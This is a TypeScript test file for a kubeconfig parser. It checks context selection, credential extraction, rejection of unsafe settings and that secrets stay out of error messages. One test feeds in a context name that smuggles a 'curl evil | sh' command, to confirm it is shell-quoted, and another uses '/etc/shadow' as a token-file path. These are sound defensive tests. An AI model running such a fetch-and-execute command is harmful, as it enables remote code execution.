import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { stringify } from 'yaml'
import type { KubeconfigContext } from '../../shared/provider/model.ts'
import { kubeconfigContexts, readKubeconfig } from './kubeconfig.ts'
import { createTestAuthority } from './test-support/certificates.ts'

const secret = 'tok-very-secret-value'
let caPem: string
let caData: string

beforeAll(async () => {
  caPem = (await createTestAuthority()).caPem
  caData = Buffer.from(caPem).toString('base64')
})

function config(user: object, cluster: object = {}, over: object = {}): string {
  return stringify({
    apiVersion: 'v1',
    kind: 'Config',
    'current-context': 'one',
    contexts: [
      { name: 'two', context: { cluster: 'c', user: 'other' } },
      { name: 'one', context: { cluster: 'c', user: 'u', namespace: 'x' } },
    ],
    clusters: [{ name: 'c', cluster: { server: 'https://api.example:6443/', ...cluster } }],
    users: [
      { name: 'u', user },
      { name: 'other', user: { token: 'second' } },
    ],
    ...over,
  })
}

function exec(over: object = {}): object {
  return {
    apiVersion: 'client.authentication.k8s.io/v1',
    command: 'login',
    args: ['get', 'it'],
    interactiveMode: 'Never',
    ...over,
  }
}

function codeOf(source: string, context?: string): string {
  const result = readKubeconfig(source, context)
  if (result.ok) return 'ok'
  expect(JSON.stringify(result)).not.toContain(secret)
  expect(result.problem.remedy).not.toBe('')
  return result.problem.code
}

describe('readKubeconfig', () => {
  it('puts a context into a command as one word, whatever it is called', () => {
    const name = "x'; curl evil | sh; '"
    const contexts = [{ name, context: { cluster: 'c', user: 'nobody' } }]
    const result = readKubeconfig(config({ token: secret }, {}, { contexts }), name)
    expect(result.ok ? '' : result.problem.remedy).toContain(
      String.raw`--context='x'\''; curl evil | sh; '\'''`,
    )
  })

  it('takes the current context', () => {
    const result = readKubeconfig(
      config({ token: secret, as: 'boss' }, { 'certificate-authority-data': caData, 'tls-server-name': 'k' }),
      undefined,
    )
    expect(result).toEqual({
      ok: true,
      value: {
        context: 'one',
        credentials: {
          url: 'https://api.example:6443',
          token: secret,
          caPem,
          serverName: 'k',
          impersonate: 'boss',
          namespace: 'x',
        },
      },
    })
  })

  it('takes the context that is asked for', () => {
    const result = readKubeconfig(config({ token: secret }), 'two')
    expect(result.ok && result.value.credentials.token).toBe('second')
  })

  it('takes client certificates, passwords and proxies', () => {
    const data = (text: string) => Buffer.from(text).toString('base64')
    const certificate = readKubeconfig(
      config({ 'client-certificate-data': data('CERT'), 'client-key-data': data('KEY') }),
      undefined,
    )
    expect(certificate.ok && certificate.value.credentials.clientCertificate).toEqual({
      certPem: 'CERT',
      keyPem: 'KEY',
    })
    const password = readKubeconfig(
      config({ username: 'a', password: 'b' }, { 'proxy-url': 'http://proxy:3128' }),
      undefined,
    )
    expect(password.ok && password.value.credentials).toMatchObject({
      basic: { username: 'a', password: 'b' },
      proxyUrl: 'http://proxy:3128',
    })
  })

  it('reads JSON too, which is YAML', () => {
    const json = JSON.stringify({
      'current-context': 'one',
      contexts: [{ name: 'one', context: { cluster: 'c', user: 'u' } }],
      clusters: [{ name: 'c', cluster: { server: 'https://a' } }],
      users: [{ name: 'u', user: { token: 't' } }],
    })
    expect(codeOf(json)).toBe('ok')
  })

  it.each([
    ['exec of another version', { exec: exec({ apiVersion: 'v1' }) }, 'cluster.kubeconfig-program-unusable'],
    ['exec beside a token', { token: secret, exec: { command: 'x' } }, 'cluster.kubeconfig-program-unusable'],
    ['exec without a command', { exec: exec({ command: '' }) }, 'cluster.kubeconfig-program-unusable'],
    ['exec in a folder', { exec: exec({ command: './login' }) }, 'cluster.kubeconfig-program-unusable'],
    ['exec with a NUL', { exec: exec({ args: ['a\0b'] }) }, 'cluster.kubeconfig-program-unusable'],
    [
      'exec with a strange variable',
      { exec: exec({ env: [{ name: 'A B', value: '' }] }) },
      'cluster.kubeconfig-program-unusable',
    ],
    [
      'exec that asks a person',
      { exec: exec({ interactiveMode: 'Always' }) },
      'cluster.kubeconfig-program-unusable',
    ],
    ['exec of no mode', { exec: exec({ interactiveMode: null }) }, 'cluster.kubeconfig-program-unusable'],
    ['auth provider', { 'auth-provider': { name: 'oidc' } }, 'cluster.kubeconfig-auth-provider'],
    ['groups to act as', { token: secret, 'as-groups': ['g'] }, 'cluster.kubeconfig-impersonation'],
    ['token file', { tokenFile: '/etc/shadow' }, 'cluster.kubeconfig-file-reference'],
    [
      'key file',
      { 'client-key': 'key.pem', 'client-certificate-data': 'x' },
      'cluster.kubeconfig-file-reference',
    ],
    ['redacted token', { token: 'REDACTED' }, 'cluster.kubeconfig-redacted'],
    ['omitted key', { 'client-key-data': 'DATA+OMITTED' }, 'cluster.kubeconfig-redacted'],
    ['nothing', {}, 'cluster.kubeconfig-no-credentials'],
    ['certificate without key', { 'client-certificate-data': 'x' }, 'cluster.kubeconfig-no-credentials'],
  ])('refuses a user with %s', (_what, user, expected) => {
    expect(codeOf(config(user))).toBe(expected)
  })

  it.each([
    [{ 'certificate-authority': '/ca.crt' }, 'cluster.kubeconfig-file-reference'],
    [{ 'certificate-authority-data': 'DATA+OMITTED' }, 'cluster.kubeconfig-redacted'],
    [{ 'certificate-authority-data': 'AAAA' }, 'cluster.authority-invalid'],
    [{ 'insecure-skip-tls-verify': true }, 'cluster.kubeconfig-insecure'],
    [{ 'proxy-url': 'socks5://p:1080' }, 'cluster.kubeconfig-proxy'],
    [{ server: 'http://api.example' }, 'cluster.address-insecure'],
  ])('refuses a cluster with %j', (cluster, expected) => {
    expect(codeOf(config({ token: secret }, cluster))).toBe(expected)
  })

  it('says which contexts there are', () => {
    const missing = readKubeconfig(config({ token: secret }), 'three')
    expect(missing).toMatchObject({
      ok: false,
      problem: { code: 'cluster.kubeconfig-context', remedy: 'Choose one of its contexts: two, one.' },
    })
    expect(codeOf(config({ token: secret }, {}, { users: [] }))).toBe('cluster.kubeconfig-incomplete')
    expect(codeOf(config({ token: secret }, {}, { 'current-context': '' }))).toBe(
      'cluster.kubeconfig-context',
    )
  })

  it.each(['', 'hello', '- a', `token: ${secret}\n  bad: [`, '[[[[', 'x'.repeat(2 ** 20 + 1)])(
    'refuses what is no kubeconfig',
    (source) => {
      expect(['cluster.kubeconfig-invalid', 'cluster.kubeconfig-context']).toContain(codeOf(source))
    },
  )

  it('tells of a program and runs nothing', () => {
    const v1beta1 = exec({ apiVersion: 'client.authentication.k8s.io/v1beta1', interactiveMode: null })
    const extensions = [{ name: 'client.authentication.k8s.io/exec', extension: { audience: 'x' } }]
    const result = readKubeconfig(config({ exec: v1beta1 }, { extensions }), undefined)
    expect(result).toMatchObject({
      ok: true,
      value: {
        credentials: { url: 'https://api.example:6443' },
        program: { command: 'login', args: ['get', 'it'], provideClusterInfo: false },
        programConfig: { audience: 'x' },
      },
    })
  })

  it('answers for any text', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(codeOf(text)).not.toBe('ok')
      }),
    )
  })
})

describe('kubeconfigContexts', () => {
  const all = (source: string) => {
    const result = kubeconfigContexts(source)
    expect(JSON.stringify(result)).not.toContain(secret)
    return result.ok ? result.value : result.problem.code
  }

  it('tells all that a person needs to choose, the current context first', () => {
    expect(all(config({ token: secret }))).toEqual([
      {
        name: 'one',
        current: true,
        server: 'https://api.example:6443',
        user: 'u',
        namespace: 'x',
        login: 'token',
      },
      {
        name: 'two',
        current: false,
        server: 'https://api.example:6443',
        user: 'other',
        namespace: '',
        login: 'token',
      },
    ])
  })

  it.each([
    [{ exec: exec() }, {}, 'program', undefined],
    [{ exec: exec({ interactiveMode: 'Always' }) }, {}, 'program', 'cluster.kubeconfig-program-unusable'],
    [{ tokenFile: '/t' }, {}, 'token', 'cluster.kubeconfig-file-reference'],
    [{ username: 'a', password: secret }, {}, 'password', undefined],
    [{ 'client-certificate': '/c' }, {}, 'certificate', 'cluster.kubeconfig-file-reference'],
    [{}, {}, 'none', 'cluster.kubeconfig-no-credentials'],
    [{ token: 'REDACTED' }, {}, 'token', 'cluster.kubeconfig-redacted'],
    [{ token: 't' }, { 'insecure-skip-tls-verify': true }, 'token', 'cluster.kubeconfig-insecure'],
    [{ token: 't' }, { 'proxy-url': 'socks5://p' }, 'token', 'cluster.kubeconfig-proxy'],
    [{ token: 't' }, { server: `https://me:${secret}@api` }, 'token', 'cluster.address-invalid'],
  ])('says how %j logs in and why it cannot', (user, cluster, login, code) => {
    const [first] = all(config(user, cluster)) as KubeconfigContext[]
    expect([first?.login, first?.problem?.code]).toEqual([login, code])
  })

  it('shows the program that consent has to repeat', () => {
    const [first] = all(config({ exec: exec() })) as KubeconfigContext[]
    expect(first?.program).toBe('login get it')
  })

  it('names contexts whose parts are missing, and fails where there is none', () => {
    const [first] = all(config({ token: secret }, {}, { users: [] })) as KubeconfigContext[]
    expect(first?.problem?.code).toBe('cluster.kubeconfig-incomplete')
    expect(all(config({}, {}, { contexts: [] }))).toBe('cluster.kubeconfig-context')
    expect(all('[[[[')).toBe('cluster.kubeconfig-invalid')
  })
})
